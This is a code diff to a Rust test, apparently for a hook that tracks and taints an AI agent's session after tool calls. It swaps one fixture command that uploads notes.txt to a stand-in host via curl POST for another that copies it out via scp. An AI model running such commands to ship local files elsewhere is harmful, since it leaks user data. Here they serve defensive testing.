@@ -327,7 +327,9 @@ async fn an_mcp_call_through_the_hook_taints_its_session() {
         let mut v = fixture("bash_read_only");
         v["session_id"] = json!(session);
         v["tool_use_id"] = json!(format!("toolu_post_{tag}"));
-        v["tool_input"]["command"] = json!("curl -X POST https://example.com/upload -d @notes.txt");
+        // A way out that reads nothing back (a fetch such as curl's would
+        // taint the session by itself).
+        v["tool_input"]["command"] = json!("scp notes.txt backup.example.com:/srv/notes.txt");
         serde_json::to_vec(&v).unwrap()
     };
     let (_, d, reason) = hook(&app.base, &agent, &shell("task-1", "a"), &["--wait", "1"]).await;
